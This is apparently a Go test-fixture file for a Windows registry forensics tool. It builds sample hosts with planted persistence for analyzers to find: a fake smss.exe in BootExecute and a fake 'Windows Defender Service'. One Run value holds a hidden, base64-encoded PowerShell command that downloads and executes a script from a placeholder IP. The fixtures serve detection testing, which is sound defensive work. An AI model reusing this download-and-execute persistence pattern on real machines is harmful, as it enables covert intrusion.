package samples

import (
	"encoding/base64"
	"encoding/binary"
	"unicode/utf16"

	"github.com/hivescan/hivescan/hive/hivetest"
)

// Hosts returns every sample host: the base hosts, then those of the
// Session Manager analyzers and of the autostart analyzers.
func Hosts() []Host {
	out := []Host{CleanHost(), FakeSmssBootExecute(), DeletedTraces()}
	out = append(out, sessionManagerHosts()...)
	out = append(out, autostartHosts()...)
	return out
}

// CleanHost is a Windows 10 machine with nothing planted.
func CleanHost() Host {
	return Host{
		Name:  "clean-host",
		About: "a Windows 10 machine with default settings and ordinary Run entries (OneDrive in the user profile is low): nothing above low",
		Hives: []Hive{
			System("CLEAN-PC", [4]uint32{1, 1, 1, 0}, 1),
			Software(),
			Default(),
			NTUser("alice"),
		},
	}
}

// FakeSmssBootExecute has a fake smss.exe planted in BootExecute of both
// control sets, and a second native program only in the last-known-good set.
func FakeSmssBootExecute() Host {
	sys := System("FINANCE-PC", [4]uint32{1, 1, 2, 0}, 1, 2)
	for _, cs := range sys.Root.Subkeys {
		if cs.Name == "ControlSet001" || cs.Name == "ControlSet002" {
			Set(cs, `Control\Session Manager`, hivetest.MultiSZ("BootExecute", "autocheck autochk *", `\??\C:\Windows\System32\drivers\smss.exe`))
			Touch(cs, `Control\Session Manager`, Base.Add(36*3600e9))
		}
		if cs.Name == "ControlSet002" {
			Set(cs, `Control\Session Manager`, hivetest.MultiSZ("BootExecute", "autocheck autochk *", `\??\C:\Windows\System32\drivers\smss.exe`, "bcdfix /quiet"))
		}
	}
	return Host{
		Name:  "fake-smss-bootexecute",
		About: `a fake smss.exe in System32\drivers started from BootExecute (both control sets), plus a native program only in the last-known-good set`,
		Hives: []Hive{sys, Software(), Default(), NTUser("bob")},
	}
}

// DeletedTraces had a Run value and a service removed after use: the live
// hives look clean, the deleted records do not.
func DeletedTraces() Host {
	user := NTUser("carol")
	run := `Software\Microsoft\Windows\CurrentVersion\Run`
	Set(user.Root, run,
		hivetest.SZ("SyncHelper", "powershell.exe -nop -w hidden -enc "+encodedPowerShell(`IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')`)),
		hivetest.SZ("WindowsUpdate", `C:\Windows\smss.exe -k`))
	user.After = func(h *hivetest.Hive) error {
		// SyncHelper goes first, from the middle of the list: no list
		// names it any more, but its cell lies between Run's value cells
		// and the list keeps a slot for it, so it is placed at Run as its
		// likely owner. WindowsUpdate, then last, leaves its offset in the
		// list's slack.
		if err := h.FreeValue(run, "SyncHelper"); err != nil {
			return err
		}
		return h.FreeValue(run, "WindowsUpdate")
	}
	sys := System("HR-PC", [4]uint32{1, 1, 1, 0}, 1)
	services := At(sys.Root, `ControlSet001\Services`)
	services.DeletedSubkeys = append(services.DeletedSubkeys, &hivetest.Key{
		Name:      "WinDefendSvc",
		LastWrite: Base.Add(-2 * 3600e9),
		Values: []hivetest.Value{
			hivetest.ExpandSZ("ImagePath", `C:\Windows\System32\drivers\smss.exe`),
			hivetest.DWORD("Type", 0x10), hivetest.DWORD("Start", 2),
			hivetest.SZ("DisplayName", "Windows Defender Service"),
		},
	})
	return Host{
		Name:  "deleted-traces",
		About: "a Run value and a service that launched a fake smss.exe, and a Run value with an encoded PowerShell download, deleted after use: found only in the hives' deleted records",
		Hives: []Hive{sys, Software(), Default(), user},
	}
}

// encodedPowerShell encodes a script as powershell -EncodedCommand takes it:
// base64 of UTF-16LE.
func encodedPowerShell(script string) string {
	u := utf16.Encode([]rune(script))
	b := make([]byte, 2*len(u))
	for i, c := range u {
		binary.LittleEndian.PutUint16(b[2*i:], c)
	}
	return base64.StdEncoding.EncodeToString(b)
}
